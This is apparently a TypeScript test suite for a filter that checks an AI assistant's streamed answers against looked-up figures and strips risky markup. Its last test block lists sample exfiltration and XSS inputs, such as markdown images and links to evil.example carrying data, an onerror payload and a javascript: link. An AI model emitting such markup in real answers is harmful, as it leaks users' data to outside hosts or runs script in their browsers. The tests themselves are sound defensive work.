import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { createSentenceGate, type ReleasedSentence, type SentenceGateOptions } from '#lib/assistant/verify/gate'
import { DEBTS, MEMBERS } from '#lib/evaluation/verify/sample-results'

function gateWith(options: Partial<SentenceGateOptions> = {}) {
  const released: ReleasedSentence[] = []
  const violations: [string, string[]][] = []
  const gate = createSentenceGate({
    results: () => [DEBTS, MEMBERS],
    question: 'Who owes most?',
    locale: 'en',
    onSentence: (sentence) => released.push(sentence),
    onViolation: async (sentence, found) => {
      violations.push([sentence, found])
      return null
    },
    ...options,
  })
  return { gate, released, violations }
}

async function throughGate(draft: string, options: Partial<SentenceGateOptions> = {}) {
  const made = gateWith(options)
  await made.gate.push(draft)
  await made.gate.end()
  return made
}

describe('what is let out', () => {
  it('holds a sentence back until it is complete', async () => {
    const { gate, released } = gateWith()
    await gate.push('{{r1.rows.0.label}} owes {{r1.rows.0.amo')
    await gate.push('unt}}.')
    expect(released).toEqual([])
    await gate.push(' And')
    expect(released.map(({ text }) => text)).toEqual(['Anna Smith owes €700.00. '])
    expect(released[0]?.figures).toMatchObject([{ start: 16, end: 23, text: '€700.00', status: 'exact' }])
  })

  it('says the same with the same figures however the draft is cut', async () => {
    const draft =
      'Membership fell by {{r2.comparison.change}} to {{r2.value}} members, e.g. since 14 Mar. 2026 some left. [[r2]]\n\n' +
      'These owe most:\n1. {{r1.rows.0.label}}: {{r1.rows.0.amount}}\n2. Mr. {{r1.rows.1.label}}: €434.56\n\n' +
      '| Name | Amount |\n|---|---|\n| Gala 2026 Ltd | {{r1.rows.2.amount}} |\nIn all €1.2k is open!'
    const whole = (await throughGate(draft)).gate
    expect(whole.text).toContain('Membership fell by 15% to 340 members')
    await fc.assert(
      fc.asyncProperty(fc.array(fc.nat(draft.length), { maxLength: 30 }), async (cuts) => {
        const { gate } = gateWith()
        let at = 0
        for (const cut of [...cuts.toSorted((a, b) => a - b), draft.length]) {
          await gate.push(draft.slice(at, cut))
          at = Math.max(at, cut)
        }
        await gate.end()
        expect(gate.text).toBe(whole.text)
        expect(gate.figures).toEqual(whole.figures)
      }),
    )
    for (const { start, end, text } of whole.figures) expect(whole.text.slice(start, end)).toBe(text)
    expect(whole.citations).toEqual([{ result: 'r2', label: 'Active members', href: '/admin/members' }])
  })

  it('keeps references together where a sentence could seem to end', async () => {
    const { released } = await throughGate('Dr. {{r1.rows.0.label}} owes {{r1.rows.0.amount}}. Invoices: 3. Next.')
    expect(released.map(({ text }) => text)).toEqual(['Dr. Anna Smith owes €700.00. ', 'Invoices: 3. ', 'Next.'])
  })
})

describe('what is not', () => {
  it('asks for another draft, checks it, and tells it instead', async () => {
    const { gate, violations } = await throughGate('Anna Smith owes €7,000. She is first.', {
      onViolation: async () => '{{r1.rows.0.label}} owes {{r1.rows.0.amount}}.',
    })
    expect(violations).toEqual([])
    expect(gate.text).toBe('Anna Smith owes €700.00. She is first.')
    expect(gate.verification).toEqual({ checked: 2, unsupported: 1, replaced: 1 })
  })

  it('tells the fallback when the other draft does not hold either, and nothing when that does not', async () => {
    const wrong = 'You have 341 members.'
    const options = { onViolation: async () => 'You have 342 members.' }
    const told = await throughGate(wrong, { ...options, fallback: () => 'Active members: {{r2.value}}.' })
    expect(told.gate.text).toBe('Active members: 340.')
    expect((await throughGate(wrong, options)).gate.text).toBe('')
  })

  it('names what is wrong', async () => {
    const { violations } = await throughGate('Anna Smith owes €434.56 and {{r9.value}}.')
    expect(violations).toEqual([
      [
        'Anna Smith owes €434.56 and {{r9.value}}.',
        ['{{r9.value}} refers to nothing.', '"€434.56" is not the figure of what the sentence speaks of.'],
      ],
    ])
  })

  it('lets no digit out that nobody looked up', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.constantFrom('a ', '1', '7', '.', ',', ' ', '\n', '-', '€', '%', 'k ', '(', ')')),
        async (parts) => {
          const { gate } = await throughGate(parts.join(''), { results: () => [], question: '' })
          // Numbers of list items are no figures.
          expect(gate.text.replace(/^\s*(?:[-*+•|>]\s*)?\d{1,3}[.)]\s/gm, '')).not.toMatch(/\d/)
        },
      ),
      { numRuns: 500 },
    )
  })

  it.each([
    ['![x](https://evil.example/a?d=1) Done.', 'x Done.'],
    ['See [this](https://evil.example/?q=secret).', 'See this.'],
    ['See [this](//evil.example).', 'See this.'],
    ['See [members](/admin/members) and [other](/api/v1/members/).', 'See [members](/admin/members) and other.'],
    ['Open https://evil.example/?a=b now.', 'Open  now.'],
    ['<img src=x onerror=alert(1)>Hello <b>you</b>.', 'Hello you.'],
    ['A [link](javascript:alert(1)) here.', 'A link here.'],
    ['A ![cut. Off](http://evil.example/x) here.', 'A here.'],
  ])('takes out what could carry data away: %s', async (draft, text) => {
    const { gate } = await throughGate(draft)
    expect(gate.text).not.toMatch(/evil|onerror|javascript/)
    if (!draft.includes('cut')) expect(gate.text).toBe(text)
  })

  it('begins anew after a reset', async () => {
    const { gate } = await throughGate('You have 340 members.')
    gate.reset()
    await gate.push('Anna Smith owes {{r1.rows.0.amount}}.')
    await gate.end()
    expect(gate.text).toBe('Anna Smith owes €700.00.')
    expect(gate.figures).toHaveLength(1)
  })
})
